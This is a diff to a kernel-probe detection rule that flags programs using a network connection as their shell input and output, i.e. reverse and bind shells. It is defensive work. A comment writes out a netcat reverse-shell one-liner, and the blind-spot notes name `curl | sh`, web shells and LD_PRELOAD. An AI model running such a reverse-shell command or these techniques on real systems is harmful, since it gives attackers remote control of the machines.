@@ -1,6 +1,6 @@
 /*---
 id: EXE-001
-version: 1.1.0
+version: 1.2.0
 title: Program with a network connection as its standard input and output
 status: stable
 severity: high
@@ -14,22 +14,26 @@ why: >
   A connection that was accepted, and that more than two programs have so, is a shell that somebody connected to: a daemon and the program
   of its service (git daemon, inetd with a wrapper) are two. The same is done by a program between: what it receives it writes to a pipe,
   terminal or unix socket that is another's standard input, and what that one answers it sends back. Or it starts a program for each
-  command that comes, and sends what that writes.
+  command that comes, and sends what that writes, or has a shell run what came.
 triage:
   - Which program is it, who started it, and whose address is at the other end?
   - What did it start since? Its children have the same parent in the findings and in `culprit packets`.
 false_positives:
   - inetd, xinetd and systemd's Accept=yes start a service with the accepted connection; one that reads it and starts two further
     programs with all of it is told
+  - scripts that talk by /dev/tcp, and again and again have one program write to the connection what another one, which they started when
+    something had come, wrote
   - programs that are made to run others on a connection of theirs, which is what this is about (runners of build jobs, agents that
     take commands from a server, telnetd)
 blind_spots:
   - a relay that keeps what it receives before it passes it on (over 20 ms, or another thread's work), or that is asked once and encrypts, that moves it by splice(2), io_uring or
-    in several messages at once, or that starts programs for commands which come encrypted, or sends what they write in other pieces
+    in several messages at once, or that has programs run for commands which come encrypted or in a protocol of its own, as HTTP is, and sends what they write in other pieces
+  - commands that are fetched by one connection after the other (`curl` in a loop), a script that is (`curl | sh`), what a web server runs for
+    who asks it (a web shell), a library that a program is made to load (LD_PRELOAD)
   - a relay of a connection that somebody made to it, when what it passes on is not as long as what it received (sshd's is not), or that is
     asked no more than once, or runs fewer than three programs
-  - a terminal that ssh -R brings
-  - a shell that reads the connection by another descriptor and runs nothing but its built-in commands
+  - tunnels that a shell may come by later (ssh -R, -L and -D, a relay from one connection to another)
+  - a shell that reads the connection by another descriptor and runs nothing but its built-in commands, or the same command all the time
   - a shell that somebody connected to, and that runs no more than one program
   - a connection from before the run
 references:
@@ -74,9 +78,35 @@ int rounds[uintptr_t];
 int exact[uintptr_t];
 /* By connection: the named pipe that it is passed on to. */
 uintptr_t named[uintptr_t];
-/* By process: the connection that it received from last, and when. */
+/* By process: the connection that it received from last, and when, and how much since it made a process last, which has that then. */
 uintptr_t heard[pid_t];
 uint64_t heardAt[pid_t];
+int heardBytes[pid_t];
+/* By connection: how often a shell was given a command as long as what had come, how often one of another length, and the length of the last. */
+int commands[uintptr_t];
+int others[uintptr_t];
+int length[uintptr_t];
+/* ... and the program that was started last when something had come, with a pipe to write to and none to read; the one before that another
+   followed that has the connection as its standard output; how many different ones such followed; and how many when they had ended. */
+string step[uintptr_t];
+string stepped[uintptr_t];
+int steps[uintptr_t];
+int done[uintptr_t];
+uintptr_t stepOf[pid_t];
+uint64_t stepEnded[uintptr_t];
+/* When a process that a hearer made was made. */
+uint64_t born[pid_t];
+/* ... and the channel that its bytes are written to. */
+uintptr_t passes[uintptr_t];
+/* By channel: the shell that reads it, and when that made a process last; by process the channel. */
+pid_t shell[uintptr_t];
+uint64_t ran[uintptr_t];
+uintptr_t taken[pid_t];
+/* By unix socket that a connection is passed on to: who reads it. By process: the channel of the programs that it started. */
+pid_t hop[uintptr_t];
+uintptr_t served[pid_t];
+this int length;
+this int fits;
 
 /* Who made the connection: TCP_SYN_SENT is 2. */
 socket:::state-change
@@ -185,11 +215,49 @@ proc:::exit
 	reads[pid] = 0;
 }
 
-socket:::receive
-/args[1] > 0 && outgoing[args[0]->so_address]/
+/* A shell that has a program send what others wrote, each of which it started when something had come. */
+socket:::inherited
+/outgoing[args[0]->so_address] && arg2 == 1 && own[args[0]->so_address] == 2 && holder[args[0]->so_address] == pid
+    && heard[pid] == args[0]->so_address && step[args[0]->so_address] != ""/
 {
+	steps[args[0]->so_address] += step[args[0]->so_address] != stepped[args[0]->so_address];
+	done[args[0]->so_address] += step[args[0]->so_address] != stepped[args[0]->so_address] && stepEnded[args[0]->so_address] != 0
+	    && stepEnded[args[0]->so_address] < born[pid];
+	stepped[args[0]->so_address] = step[args[0]->so_address];
+	step[args[0]->so_address] = "";
+	this->is = 1;
+}
+
+socket:::inherited
+/this->is && (done[args[0]->so_address] > 1 || steps[args[0]->so_address] > 2)/
+{
+	finding("%s has the connection to %s port %d, which was made from here, as its standard output, and was started after %s, when something had come",
+	    execname, args[0]->so_raddr, args[0]->so_rport, stepped[args[0]->so_address]);
+}
+
+socket:::receive
+/args[1] > 0 && (outgoing[args[0]->so_address] || accepted[args[0]->so_address])/
+{
+	heardBytes[pid] = (heard[pid] == args[0]->so_address ? heardBytes[pid] : 0) + args[1];
 	heard[pid] = args[0]->so_address;
 	heardAt[pid] = timestamp;
+}
+
+socket:::receive
+/args[1] > 0 && args[0]->so_family == 1 && fed[args[0]->so_address] != 0/
+{
+	hop[args[0]->so_address] = pid;
+}
+
+/* Who reads a pipe whose writer had ended before reads another one, of the same address. */
+proc:::exec-success
+/args[1] != 0 && args[1] != args[2] && program[args[1]] != 0 && ended[args[1]] != 0/
+{
+	program[args[1]] = 0;
+	input[args[1]] = 0;
+	started[args[1]] = 0;
+	commanded[args[1]] = 0;
+	isShell[args[1]] = 0;
 }
 
 proc:::exec-success
@@ -208,8 +276,36 @@ proc:::exec-success
 	name[args[2]] = execname;
 	input[args[2]] = args[1];
 	started[args[2]] = 1;
+	served[ppid] = args[1] != 0 ? args[2] : served[ppid];
 	commanded[args[2]] = heard[ppid] != 0 && timestamp - heardAt[ppid] < 1000000000 ? heard[ppid] : 0;
 	alive[pid] = args[2];
+}
+
+/* A shell that reads a channel, and when it makes processes. */
+proc:::exec-success
+/args[1] != 0 && strstr(" sh bash dash ash zsh ksh mksh fish busybox ", strjoin(" ", strjoin(execname, " "))) != NULL/
+{
+	shell[args[1]] = pid;
+	taken[pid] = args[1];
+	ran[args[1]] = 0;
+}
+
+proc:::create
+/taken[pid] && shell[taken[pid]] == pid/
+{
+	ran[taken[pid]] = timestamp;
+}
+
+proc:::exit
+/taken[pid]/
+{
+	taken[pid] = 0;
+}
+
+proc:::exit
+/served[pid]/
+{
+	served[pid] = 0;
 }
 
 proc:::exit
@@ -224,19 +320,50 @@ proc:::exit
 	alive[pid] = 0;
 }
 
+/* Text that came and is given to a shell as its argument (system(3), popen(3)) is as long as that, but for the end of its line. */
+proc:::exec-success
+/heardBytes[pid] > 0 && timestamp - heardAt[pid] < 1000000000 && strstr(curpsinfo->pr_psargs, "sh -c ") != NULL/
+{
+	this->length = strlen(strstr(curpsinfo->pr_psargs, "sh -c ")) - 6;
+	this->fits = heardBytes[pid] - this->length >= 0 && heardBytes[pid] - this->length <= 2;
+	commands[heard[pid]] += this->fits && length[heard[pid]] != this->length;
+	others[heard[pid]] += !this->fits;
+	length[heard[pid]] = this->length;
+}
+
+proc:::exec-success
+/heardBytes[pid] > 0 && timestamp - heardAt[pid] < 1000000000 && args[2] != 0 && (args[1] == 0 || (args[1] & 1) == 1)/
+{
+	step[heard[pid]] = execname;
+	stepOf[pid] = heard[pid];
+	stepEnded[heard[pid]] = 0;
+}
+
+proc:::exit
+/stepOf[pid] != 0/
+{
+	stepEnded[stepOf[pid]] = timestamp;
+	stepOf[pid] = 0;
+}
+
 /* The subshell of `$(…)`. */
 proc:::create
 /heard[pid]/
 {
 	heard[arg1] = heard[pid];
 	heardAt[arg1] = heardAt[pid];
+	heardBytes[arg1] = heardBytes[pid];
+	heardBytes[pid] = 0;
+	born[arg1] = timestamp;
 }
 
 proc:::exit
 /heard[pid]/
 {
+	born[pid] = 0;
 	heard[pid] = 0;
 	heardAt[pid] = 0;
+	heardBytes[pid] = 0;
 }
 
 /* What a connection brought was written to a channel. */
@@ -249,6 +376,7 @@ socket:::relayed
 	fed[args[3]] = args[0]->so_address;
 	made[args[3]] = outgoing[args[0]->so_address];
 	answered[args[3]] = 0;
+	passes[args[0]->so_address] = args[3];
 	named[args[0]->so_address] = args[2] == 2 ? args[3] : 0;
 }
 
@@ -324,16 +452,62 @@ socket:::relayed
  */
 socket:::relayed
 /this->is && outgoing[args[0]->so_address] && commanded[args[3]] == args[0]->so_address
-    && args[1] == args[4] && (isShell[args[3]] || this->input == 0)/
+    && (args[1] == args[4] && this->input == 0 || isShell[args[3]] && args[1] - args[4] <= 2 && args[1] - args[4] >= -2)/
 {
 	finding("%s started %s (process %d) when %s port %d had sent something, on a connection that was made from here, and sends what that writes",
 	    execname, name[args[3]], program[args[3]], args[0]->so_raddr, args[0]->so_rport);
+}
+
+/* `sh -c` of what came, again and again: who does that is told when it sends or receives next. */
+socket:::send, socket:::receive
+/commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address]
+    && heard[pid] == args[0]->so_address && outgoing[args[0]->so_address]/
+{
+	finding("%s has a shell run what %s port %d sends, on a connection that was made from here: %d commands were as long as what had come",
+	    execname, args[0]->so_raddr, args[0]->so_rport, commands[args[0]->so_address]);
+}
+
+socket:::send, socket:::receive
+/commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address]
+    && heard[pid] == args[0]->so_address && accepted[args[0]->so_address]/
+{
+	finding("%s has a shell run what %s sends, on a connection that it made to port %d: %d commands were as long as what had come",
+	    execname, args[0]->so_raddr, args[0]->so_lport, commands[args[0]->so_address]);
+}
+
+/* `(echo; cat fifo) | nc ADDRESS PORT | sh > fifo`: nobody tells who reads the named pipe, but the shell ran a program just before. */
+socket:::relayed
+/args[2] == 1 && outgoing[args[0]->so_address] && passes[args[0]->so_address] != 0 && passes[args[0]->so_address] != args[3]
+    && program[args[3]] != 0 && program[args[3]] != shell[passes[args[0]->so_address]]
+    && input[args[3]] != passes[args[0]->so_address] && exact[passes[args[0]->so_address]] && args[1] == args[4]
+    && ran[passes[args[0]->so_address]] != 0 && timestamp - ran[passes[args[0]->so_address]] < 200000000/
+{
+	finding("%s passes what %s port %d sends, on a connection that was made from here, to a shell (process %d), and sends what comes when that has run something",
+	    execname, args[0]->so_raddr, args[0]->so_rport, shell[passes[args[0]->so_address]]);
+}
+
+/* A unix socket between: who reads it has started a program, which starts others, and as many bytes go back. */
+socket:::relayed
+/args[2] == 1 && outgoing[args[0]->so_address] && fed[args[3]] == args[0]->so_address && exact[args[3]] && args[1] == args[4]
+    && hop[args[3]] != 0 && served[hop[args[3]]] != 0 && isShell[served[hop[args[3]]]] && started[served[hop[args[3]]]] > 1/
+{
+	finding("%s passes what %s port %d sends, on a connection that was made from here, to process %d by a unix socket, which has a shell for it (%s), and sends what comes back",
+	    execname, args[0]->so_raddr, args[0]->so_rport, hop[args[3]], name[served[hop[args[3]]]]);
 }
 
 /* TCP_CLOSE is 7. */
 socket:::state-change
 /arg2 == 7/
 {
+	commands[args[0]->so_address] = 0;
+	others[args[0]->so_address] = 0;
+	length[args[0]->so_address] = 0;
+	step[args[0]->so_address] = "";
+	stepped[args[0]->so_address] = "";
+	steps[args[0]->so_address] = 0;
+	done[args[0]->so_address] = 0;
+	stepEnded[args[0]->so_address] = 0;
+	passes[args[0]->so_address] = 0;
 	outgoing[args[0]->so_address] = 0;
 	named[args[0]->so_address] = 0;
 	accepted[args[0]->so_address] = 0;
